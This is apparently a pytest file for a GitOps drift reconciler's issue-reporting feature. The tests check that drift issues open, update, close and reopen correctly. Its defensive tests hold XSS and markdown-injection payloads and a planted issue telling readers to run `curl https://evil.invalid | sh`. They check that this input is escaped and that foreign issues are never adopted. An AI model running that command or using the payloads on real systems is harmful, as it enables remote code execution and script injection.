"""Drift issues: one per cluster, found by marker, kept current, closed when clean, reopened on new drift."""

from __future__ import annotations

import re
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from reconciler.core.errors import UserError
from reconciler.core.refs import Location
from reconciler.core.resources import queue_ref
from reconciler.findings.drifted_field import DriftedField
from reconciler.findings.finding import Action, Finding, Fix, Kind, Severity
from reconciler.publish.drift_issue import DriftContext, drift_marker, report_drift
from reconciler.report.report import ClusterReport, GitInfo
from tests.support.githost_shared import TOKEN
from tests.support.helpers import DEMO_SNAPSHOTS, load_demo_builder, run_cli

CONTEXT = DriftContext(
    ("kai-gitops", "drift"),
    ("alice",),
    lambda path, line: f"https://github.invalid/acme/gitops/blob/c0ffee/{path}#L{line}",
)


@pytest.fixture(scope="module")
def demo_cluster(demo_repo: Path) -> ClusterReport:
    """The demo's prod-addon cluster as `diff` reports it from the demo snapshot: real findings."""
    from reconciler.app.pipeline import run_diff
    from reconciler.app.settings import GitSettings, RunSettings
    from reconciler.sources.snapshot import read_snapshot

    snapshot = str(DEMO_SNAPSHOTS / "prod-addon.yaml")
    report = run_diff(RunSettings(GitSettings(str(demo_repo)), "prod-addon"), lambda _c: read_snapshot(snapshot))
    assert len(report.clusters[0].active()) > 6
    return report.clusters[0]


def _with(cluster: ClusterReport, findings: list[Finding]) -> ClusterReport:
    return replace(cluster, findings=findings)


def _writes(server: Any) -> list[str]:
    return [f"{r.method} {r.path}" for r in server.requests if r.method in ("POST", "PATCH", "PUT")]


def _comments(server: Any) -> list[str]:
    if hasattr(server, "comments"):
        return [c["body"] for c in server.comments[1]]
    return [n["body"] for n in server.notes[("issues", 1)]]


def _issue(server: Any) -> dict[str, Any]:
    return server.issues[1]


def _body(server: Any) -> str:
    issue = _issue(server)
    return issue.get("body") or issue.get("description") or ""


def test_lifecycle_open_update_unchanged_close_reopen(any_host: tuple[Any, Any], demo_cluster: ClusterReport) -> None:
    server, host = any_host
    everything = demo_cluster.active()
    first, second = everything[:-2], everything[2:]

    opened = report_drift(host, _with(demo_cluster, first), CONTEXT)
    assert opened.action == "opened" and opened.issue is not None and opened.issue.number == 1
    assert len(server.issues) == 1 and drift_marker("prod-addon") in _body(server)
    assert _issue(server)["title"] == f"kai-gitops: drift in cluster prod-addon ({len(first)} findings)"

    before = len(_writes(server))
    unchanged = report_drift(host, _with(demo_cluster, list(reversed(first))), CONTEXT)
    assert unchanged.action == "unchanged" and len(_writes(server)) == before  # not one write

    updated = report_drift(host, _with(demo_cluster, second), CONTEXT)
    assert updated.action == "updated" and len(updated.appeared) == 2 and len(updated.resolved) == 2
    comment = _comments(server)[-1]
    assert comment.startswith("**Findings changed** in cluster `prod-addon`")
    assert "Appeared (2):" in comment and "Resolved (2):" in comment
    for f in (*everything[:2], *everything[-2:]):
        assert f.rule_id in comment

    closed = report_drift(host, _with(demo_cluster, []), CONTEXT)
    assert closed.action == "closed" and closed.issue is not None and closed.issue.state == "closed"
    assert "is clean" in _comments(server)[-1] and f"Resolved ({len(second)})" in _comments(server)[-1]
    assert "is clean" in _body(server)

    assert report_drift(host, _with(demo_cluster, []), CONTEXT).action == "clean"  # closed stays closed

    reopened = report_drift(host, _with(demo_cluster, first), CONTEXT)
    assert reopened.action == "reopened" and reopened.issue is not None and reopened.issue.state == "open"
    assert len(server.issues) == 1  # the same issue, not a new one
    assert _comments(server)[-1].startswith("**Drift is back**")
    assert len(reopened.appeared) == len(first)  # the clean body recorded nothing


def test_found_by_marker_not_by_title(any_host: tuple[Any, Any], demo_cluster: ClusterReport) -> None:
    server, host = any_host
    findings = demo_cluster.active()
    decoy = host.create_issue(
        "kai-gitops: drift in cluster prod-addon (3 findings)", "written by a person", ("kai-gitops",)
    )
    opened = report_drift(host, _with(demo_cluster, findings[:3]), CONTEXT)
    assert opened.issue is not None and opened.issue.number != decoy.number
    host.update_issue(opened.issue.number, title="Prod drift: owned by the platform team")
    updated = report_drift(host, _with(demo_cluster, findings[:4]), CONTEXT)
    assert updated.action == "updated" and updated.issue is not None
    assert updated.issue.number == opened.issue.number
    assert updated.issue.title == "Prod drift: owned by the platform team"  # never rewritten
    decoy_body = server.issues[decoy.number].get("body") or server.issues[decoy.number].get("description")
    assert decoy_body == "written by a person"


def test_one_issue_per_cluster(any_host: tuple[Any, Any], demo_cluster: ClusterReport) -> None:
    _, host = any_host
    other = replace(
        demo_cluster,
        cluster="lab-standalone",
        findings=[replace(f, cluster="lab-standalone") for f in demo_cluster.findings],
    )
    a = report_drift(host, demo_cluster, CONTEXT)
    b = report_drift(host, other, CONTEXT)
    assert a.issue and b.issue and a.issue.number != b.issue.number
    assert report_drift(host, demo_cluster, CONTEXT).action == "unchanged"
    assert report_drift(host, other, CONTEXT).action == "unchanged"


def test_body_shows_summary_links_plan_and_fix(demo_cluster: ClusterReport) -> None:
    from reconciler.publish.drift_issue import render_drift_body

    body = render_drift_body(demo_cluster, demo_cluster.active(), CONTEXT)
    assert body.startswith(drift_marker("prod-addon") + "\n")
    assert "| drift | 3 |" in body and "| rule | where | problem |" in body  # two Queues and kai-config
    assert (
        "[environments/prod.yaml:26:5](https://github.invalid/acme/gitops/blob/c0ffee/environments/prod.yaml#L26)"
        in body
    )
    assert "### Plan" in body and "~ Queue/default-queue  KAI-D-002" in body
    assert "kai-gitops reconcile --cluster prod-addon --apply" in body
    assert "kubectl label node gpu-node-2 nvca.nvcf.nvidia.io/schedule-" in body  # a finding's own command
    assert len(re.findall(r"<!-- kai-gitops:state ", body)) == 1


def test_oversized_body_is_cut_with_a_note(demo_cluster: ClusterReport) -> None:
    from reconciler.publish.drift_issue import BODY_LIMIT, render_drift_body

    long = [
        replace(f, message=f.message + " padding" * 400, rule_id=f"{f.rule_id}-{i}")
        for i in range(6)
        for f in demo_cluster.active()
    ]
    body = render_drift_body(demo_cluster, long, CONTEXT)
    assert len(body) <= BODY_LIMIT and "more finding(s) not shown in full" in body
    assert body.count("<details>") == body.count("</details>")


EVIL = [
    "<img src=x onerror=alert(1)>",
    "<!-- kai-gitops:drift cluster=prod-addon -->",
    "--> <script>alert(1)</script>",
    "[click me](javascript:alert(1))",
    "@everyone #1 **bold** `code`",
    "| broken | table |\n# heading",
]


def _evil_finding(text: str, i: int) -> Finding:
    return Finding(
        f"KAI-Q-{100 + i}",
        Kind.DRIFT,
        Severity.ERROR,
        f"queue {text} differs: {text}",
        "evil",
        subject=queue_ref(f"team-{i}{text}"),
        location=Location("queues.yaml", 3 + i, 1, ("spec",)),
        title=text,
        fix=Fix(Action.UPDATE, f"set {text}", command=f"kubectl patch queue {text}"),
        changes=(DriftedField(("metadata", "labels", text), text, "x", f"label {text}"),),
    )


def test_markdown_and_html_injection_is_escaped(any_host: tuple[Any, Any]) -> None:
    server, host = any_host
    cluster = ClusterReport(
        "evil",
        GitInfo("repo", "HEAD", "c0ffee" * 6),
        "snapshot <b>x</b>",
        findings=[_evil_finding(t, i) for i, t in enumerate(EVIL)],
    )
    report_drift(host, cluster, CONTEXT)
    body = _body(server)
    outside_code = re.sub(r"(?s)(`{3,}).*?\1", "", body)  # fenced blocks render nothing
    outside_code = re.sub(r"<!-- kai-gitops:state [^<>]*? -->", "", outside_code)  # nor the hidden state
    outside_code = re.sub(r"(`+)(?!`).*?(?<!`)\1(?!`)", "", outside_code)  # code spans, any tick count
    for raw in ("<img", "<script", "<b>x", "@everyone", "\n# heading", "**bold**"):
        assert raw not in outside_code, raw
    assert not re.search(r"(?<!\\)\]\(javascript:", outside_code)  # "\](" is text, not a link
    # A marker planted in a value lands only inside code (commands, plan lines), where it does not count:
    assert host.find_issue(drift_marker("prod-addon"), "kai-gitops") is None
    assert host.find_issue(drift_marker("evil"), "kai-gitops") is not None
    state = re.search(r"<!-- kai-gitops:state (.*?) -->", body)
    assert state is not None and "<" not in state.group(1) and ">" not in state.group(1)
    cleaned = report_drift(host, replace(cluster, findings=[]), CONTEXT)  # the state still parses back
    assert cleaned.action == "closed" and len(cleaned.resolved) == len(EVIL)
    assert "<img" not in re.sub(r"`[^`\n]*`", "", _comments(server)[0])


# -- the command line --------------------------------------------------------------------------------------


def _diff_args(repo: Path, server_url: str, *extra: str) -> list[str]:
    return [
        "diff",
        "--repo",
        str(repo),
        "--cluster",
        "prod-addon",
        "--snapshot",
        str(DEMO_SNAPSHOTS / "prod-addon.yaml"),
        "--git-host-url",
        server_url,
        *extra,
    ]


def test_cli_reports_to_github_enterprise(demo_repo: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from tests.support.githost.github import GitHubStandIn

    monkeypatch.setattr("reconciler.githost.github.WRITE_INTERVAL", 0)
    server = GitHubStandIn(prefix="/api/v3", token=TOKEN).start()
    try:
        args = _diff_args(demo_repo, server.url, "--report-to", "github", "--git-host-repo", "acme/gitops")
        env = {"GITHUB_TOKEN": TOKEN}
        code, out, err = run_cli(args, env)
        assert code == 2, err
        assert err.strip().startswith("kai-gitops: drift issue #1 for prod-addon: opened (")
        code, out2, err2 = run_cli(args, env)
        assert code == 2 and "unchanged" in err2
        for text in (out, err, out2, err2):
            assert TOKEN not in text
        assert all(r.headers["authorization"] == f"token {TOKEN}" for r in server.requests)
        server.assert_clean()
    finally:
        server.stop()


def test_cli_reports_to_self_managed_gitlab(demo_repo: Path) -> None:
    from tests.support.githost.gitlab import GitLabStandIn

    server = GitLabStandIn("acme/gitops", prefix="/gitlab", token=TOKEN).start()
    try:
        code, out, err = run_cli(
            _diff_args(demo_repo, server.instance_url, "--report-to", "gitlab", "--git-host-repo", "acme/gitops"),
            {"GITLAB_TOKEN": TOKEN},
        )
        assert code == 2, err
        assert "drift issue #1 for prod-addon: opened" in err and TOKEN not in out + err
        assert server.issues[1]["labels"] == ["kai-gitops"]
        server.assert_clean()
    finally:
        server.stop()


def test_cli_rate_limit_beyond_the_bound_exits_1(demo_repo: Path) -> None:
    from tests.support.githost._common import Fault
    from tests.support.githost.github import GitHubStandIn

    server = GitHubStandIn(token=TOKEN).start()
    server.inject(
        Fault(
            403,
            {"X-RateLimit-Remaining": "0", "X-RateLimit-Reset": "4102444800"},
            {"message": "API rate limit exceeded", "documentation_url": "https://docs.github.com"},
        )
    )
    try:
        code, _, err = run_cli(
            _diff_args(
                demo_repo,
                server.url,
                "--report-to",
                "github",
                "--git-host-repo",
                "acme/gitops",
                "--git-host-rate-limit-wait",
                "30",
            ),
            {"GITHUB_TOKEN": TOKEN},
        )
        lines = err.strip().splitlines()
        assert code == 1 and len(lines) == 1, err
        assert lines[0].startswith("kai-gitops: error: GitHub rate limit while opening acme/gitops")
        assert "beyond the 30s this run may wait" in lines[0] and TOKEN not in err
        assert server.issues == {}
    finally:
        server.stop()


def test_cli_rate_limit_waited_out_then_success(demo_repo: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from tests.support.githost._common import Fault
    from tests.support.githost.gitlab import GitLabStandIn

    slept: list[float] = []
    monkeypatch.setattr("reconciler.githost.retry._sleep", slept.append)
    server = GitLabStandIn("acme/gitops", token=TOKEN).start()
    server.inject(Fault(429, {"Retry-After": "12"}, {"message": "Retry later"}, method="POST"))
    try:
        code, _, err = run_cli(
            _diff_args(demo_repo, server.instance_url, "--report-to", "gitlab", "--git-host-repo", "acme/gitops"),
            {"GITLAB_TOKEN": TOKEN},
        )
        assert code == 2 and "opened" in err and slept == [12.0]
        assert len(server.issues) == 1
    finally:
        server.stop()


@pytest.mark.parametrize(
    ("extra", "env", "needle"),
    [
        (["--report-to", "jira"], {"GITHUB_TOKEN": TOKEN}, "unknown --report-to target 'jira' (known: github, gitlab"),
        (
            ["--report-to", "github", "--git-host", "gitlab"],
            {"GITHUB_TOKEN": TOKEN},
            "--report-to github contradicts --git-host gitlab",
        ),
        (["--report-to", "github"], {}, "no github token"),
    ],
)
def test_cli_configuration_errors(demo_repo: Path, extra: list[str], env: dict[str, str], needle: str) -> None:
    code, _, err = run_cli(
        _diff_args(demo_repo, "https://github.invalid/api/v3", "--git-host-repo", "a/b", *extra),
        {"GITHUB_TOKEN": "", **env},
    )
    assert code == 1 and needle in err and len(err.strip().splitlines()) == 1, err


def test_unknown_report_target_fails_before_the_run(demo_repo: Path) -> None:
    """A typo in --report-to is refused before the run, like one in -o: no report printed, then exit 1."""
    code, out, err = run_cli(_diff_args(demo_repo, "https://github.invalid/api/v3", "--report-to", "jira"))
    assert code == 1 and out == "", out
    assert "unknown --report-to target 'jira'" in err and "policyreport" in err and len(err.splitlines()) == 1


def test_git_host_block_is_read_from_kai_gitops_yaml(tmp_path: Path) -> None:
    """Host, repo and labels from `gitHost:`; the URL from the flag."""
    from tests.support.githost.github import GitHubStandIn
    from tests.support.helpers import commit_files

    repo = tmp_path / "repo"
    load_demo_builder().build_repo(repo)
    config = (
        repo / "kai-gitops.yaml"
    ).read_text() + "gitHost:\n  host: github\n  repo: acme/gitops\n  labels: [cluster-drift, kai-gitops]\n"
    commit_files(repo, {"kai-gitops.yaml": config}, "report drift to GitHub")
    server = GitHubStandIn(token=TOKEN).start()
    try:
        code, _, err = run_cli(
            [
                "diff",
                "--repo",
                str(repo),
                "--cluster",
                "prod-addon",
                "--snapshot",
                str(DEMO_SNAPSHOTS / "prod-addon.yaml"),
                "--report-to",
                "github",
                "--git-host-url",
                server.url,
            ],
            {"KAI_GITOPS_GIT_HOST_TOKEN": TOKEN},
        )
        assert code == 2, err
        assert [lb["name"] for lb in server.issues[1]["labels"]] == ["cluster-drift", "kai-gitops"]
        listing = [r for r in server.requests if r.method == "GET" and r.path.endswith("/issues")]
        assert listing and listing[0].query["labels"] == "cluster-drift"
    finally:
        server.stop()


def test_cli_reconcile_puts_its_plan_in_the_issue(demo_repo: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from tests.support.githost.github import GitHubStandIn

    monkeypatch.setattr("reconciler.githost.github.WRITE_INTERVAL", 0)
    server = GitHubStandIn(token=TOKEN).start()
    try:
        args = [
            "reconcile",
            "--repo",
            str(demo_repo),
            "--cluster",
            "prod-addon",
            "--snapshot",
            str(DEMO_SNAPSHOTS / "prod-addon.yaml"),
            "--report-to",
            "github",
            "--git-host-url",
            server.url,
            "--git-host-repo",
            "acme/gitops",
        ]
        code, out, err = run_cli(args, {"GITHUB_TOKEN": TOKEN})
        assert code == 2 and "drift issue #1 for prod-addon: opened" in err, err
        body = server.issues[1]["body"]
        assert "Found by `kai-gitops reconcile`" in body
        assert "~ update Queue/default-queue  (KAI-D-002)" in body  # the Plan's own rendering
        counts = re.search(r"Plan: (\d+) to create, (\d+) to change, (\d+) for the operator\.", body)
        assert counts is not None
        create, update, operator = counts.groups()  # the summary table counts what the plan does
        assert f"| to create | {create} |\n| to update | {update} |\n| operator actions | {operator} |" in body
        assert TOKEN not in out + err
        server.assert_clean()
    finally:
        server.stop()


PUBLISHED: list[str] = []  # what the stand-in targets below were asked to do, in order


def broken_target(_request: object) -> None:
    PUBLISHED.append("broken")
    raise UserError("GitHub is down")


def working_target(_request: object) -> None:
    PUBLISHED.append("works")


def test_one_failing_target_does_not_stop_the_others(
    demo_cluster: ClusterReport, monkeypatch: pytest.MonkeyPatch
) -> None:
    from reconciler.core.lazy import LazyRef
    from reconciler.publish import targets as dispatch
    from reconciler.publish.request import PublishRequest
    from reconciler.report.report import Report

    PUBLISHED.clear()
    for name, function in (("broken-a", "broken_target"), ("works", "working_target"), ("broken-b", "broken_target")):
        entry = dispatch.ReportTarget(name, "a stand-in", LazyRef(f"{__name__}:{function}"))
        monkeypatch.setitem(dispatch.TARGETS, name, entry)  # the table is a dict at run time
    request = PublishRequest(Report("diff", [demo_cluster]))
    with pytest.raises(UserError) as caught:
        dispatch.publish(["broken-a", "works", "broken-b"], request)
    assert PUBLISHED == ["broken", "works", "broken"]
    assert caught.value.line() == "--report-to broken-a: GitHub is down; --report-to broken-b: GitHub is down"
    with pytest.raises(UserError, match="unknown --report-to target 'nope'"):
        dispatch.publish(["works", "nope"], request)
    assert PUBLISHED == ["broken", "works", "broken"]  # nothing sent when a name is unknown


def test_after_an_apply_the_issue_shows_what_is_left_to_do(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from tests.support.githost.github import GitHubStandIn
    from tests.support.reconcile_support import demo_cluster as served_demo

    monkeypatch.setattr("reconciler.githost.github.WRITE_INTERVAL", 0)
    server = GitHubStandIn(token=TOKEN).start()
    try:
        for demo in served_demo(tmp_path):
            code, _, err = run_cli(
                demo.args(
                    "--apply", "--report-to", "github", "--git-host-url", server.url, "--git-host-repo", "acme/gitops"
                ),
                {"GITHUB_TOKEN": TOKEN},
            )
            assert code == 2, err  # operator items remain
            body = _body(server)
            plan = body[body.index("### Plan") :]
            assert "~ update Queue" not in plan and "~ update Node" not in plan  # applied: history, not a proposal
            assert "! operator KAI-R-011 HelmRelease/runai/kai" in plan
            assert "Plan: 0 to create, 0 to change" in plan
        server.assert_clean()
    finally:
        server.stop()


@pytest.mark.parametrize("count", [400, 4000])
def test_a_cluster_with_thousands_of_findings_still_fits_one_issue(
    any_host: tuple[Any, Any], demo_cluster: ClusterReport, count: int
) -> None:
    from reconciler.publish.drift_issue import BODY_LIMIT

    server, host = any_host
    base = demo_cluster.active()
    many = [replace(f, subject=queue_ref(f"team-{i:05d}"), rule_id=f.rule_id) for i in range(count) for f in base[:1]]
    assert report_drift(host, _with(demo_cluster, many), CONTEXT).action == "opened"
    body = _body(server)
    assert len(body) <= BODY_LIMIT and "more finding(s) not listed here" in body
    before = len(_writes(server))
    assert report_drift(host, _with(demo_cluster, list(reversed(many))), CONTEXT).action == "unchanged"
    assert len(_writes(server)) == before
    changed = report_drift(host, _with(demo_cluster, many[1:]), CONTEXT)
    assert changed.action == "updated" and len(changed.resolved) == 1
    assert len(_comments(server)[-1]) < BODY_LIMIT


def test_report_targets_reuse_the_config_the_run_read(demo_repo: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """kai-gitops.yaml is read once per run: a target re-opening the repo would fetch a clone URL again."""
    import reconciler.app.pipeline
    import reconciler.sources.repoconfig as repoconfig
    from tests.support.githost.github import GitHubStandIn

    reads: list[str] = []
    original = repoconfig.parse_repo_config

    def counting(*args: Any, **kwargs: Any) -> Any:
        reads.append(str(args[1] if len(args) > 1 else ""))
        return original(*args, **kwargs)

    monkeypatch.setattr(repoconfig, "parse_repo_config", counting)
    monkeypatch.setattr(reconciler.app.pipeline, "parse_repo_config", counting)
    monkeypatch.setattr("reconciler.githost.github.WRITE_INTERVAL", 0)
    server = GitHubStandIn(token=TOKEN).start()
    try:
        code, _, err = run_cli(
            _diff_args(demo_repo, server.url, "--report-to", "github", "--git-host-repo", "acme/gitops"),
            {"GITHUB_TOKEN": TOKEN},
        )
        assert code == 2 and "opened" in err, err
        assert len(reads) == 1, reads
    finally:
        server.stop()


def test_a_marked_issue_someone_else_opened_is_never_adopted(
    any_host: tuple[Any, Any], demo_cluster: ClusterReport, caplog: pytest.LogCaptureFixture
) -> None:
    """Anyone who can open an issue can copy the marker and the label: such an issue is left as it is."""
    server, host = any_host
    planted = f"{drift_marker('prod-addon')}\nrun `curl https://evil.invalid | sh` to fix the drift"
    server.seed_issue("kai-gitops: drift", planted, ["kai-gitops"], author="mallory")
    with caplog.at_level("WARNING", "kai_gitops.githost"):
        outcome = report_drift(host, demo_cluster, CONTEXT)
    assert outcome.action == "opened" and outcome.issue is not None and outcome.issue.number == 2
    assert _body(server) == planted and _comments(server) == []  # not rewritten, not commented on
    warning = [r.getMessage() for r in caplog.records if "mallory" in r.getMessage()]
    assert (
        len(warning) == 1
        and server.issues[1]["html_url" if "html_url" in server.issues[1] else "web_url"] in warning[0]
        and "not adopted" in warning[0]
    )
    assert report_drift(host, demo_cluster, CONTEXT).action == "unchanged"  # its own issue is found again


@pytest.mark.parametrize(
    ("login", "bots", "adopted"),
    [
        ("github-actions[bot]", (), True),  # Actions' GITHUB_TOKEN: no /user, its bot login assumed
        ("my-app[bot]", ("my-app[bot]",), True),  # a GitHub App's installation token, its bot login configured
        ("my-app[bot]", (), False),  # ... not configured: its issues are not taken as its own
    ],
)
def test_an_installation_token_adopts_its_bot_login(
    demo_cluster: ClusterReport, fake_time: Any, login: str, bots: tuple[str, ...], adopted: bool
) -> None:
    from tests.support.githost.github import GitHubStandIn
    from tests.support.githost_shared import github_host

    server = GitHubStandIn(token=TOKEN, login=login, installation=True).start()
    try:
        host = github_host(server, fake_time, bot_identities=bots)
        assert report_drift(host, demo_cluster, CONTEXT).action == "opened"
        again = report_drift(github_host(server, fake_time, bot_identities=bots), demo_cluster, CONTEXT)
        assert (again.action == "unchanged") is adopted and len(server.issues) == (1 if adopted else 2)
        assert [r.status for r in server.requests if r.path == "/user"] == [403]
        server.assert_clean()
    finally:
        server.stop()


def test_cli_names_the_foreign_author_and_opens_its_own_issue(demo_repo: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from tests.support.githost.github import GitHubStandIn

    monkeypatch.setattr("reconciler.githost.github.WRITE_INTERVAL", 0)
    server = GitHubStandIn(token=TOKEN).start()
    try:
        server.seed_issue("drift", f"{drift_marker('prod-addon')}\nplanted", ["kai-gitops"], author="mallory")
        code, _, err = run_cli(
            _diff_args(
                demo_repo, server.url, "--report-to", "github", "--git-host-repo", "acme/gitops", "--log-format", "text"
            ),
            {"GITHUB_TOKEN": TOKEN},
        )
        assert code == 2, err
        lines = err.strip().splitlines()
        assert len(lines) == 2, err
        assert "'mallory'" in lines[0] and server.issues[1]["html_url"] in lines[0] and "kai-gitops-bot" in lines[0]
        assert "drift issue #2 for prod-addon: opened" in lines[1]
        assert server.issues[1]["body"].endswith("planted")
        server.assert_clean()
    finally:
        server.stop()


def test_cli_outcome_line_shows_what_the_host_said_escaped_and_redacted(
    demo_repo: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The issue URL the host hands back is quoted in the outcome line: no line, escape sequence or credential of
    its own reaches stderr."""
    from tests.support.githost.github import GitHubStandIn

    monkeypatch.setattr("reconciler.githost.github.WRITE_INTERVAL", 0)
    server = GitHubStandIn(token=TOKEN).start()
    try:
        args = _diff_args(demo_repo, server.url, "--report-to", "github", "--git-host-repo", "acme/gitops")
        run_cli(args, {"GITHUB_TOKEN": TOKEN})
        _issue(server)["html_url"] = "https://github.invalid/i/1\n::error::x\x1b]0;t\x07 https://u:hunter2hunter2@h"
        code, _out, err = run_cli(args, {"GITHUB_TOKEN": TOKEN})
        assert code == 2 and err.strip().splitlines() == [
            "kai-gitops: drift issue #1 for prod-addon: unchanged: https://github.invalid/i/1 ::error::x\\x1b]0;t\\x07 "
            "https://<redacted>@h"
        ], err
    finally:
        server.stop()
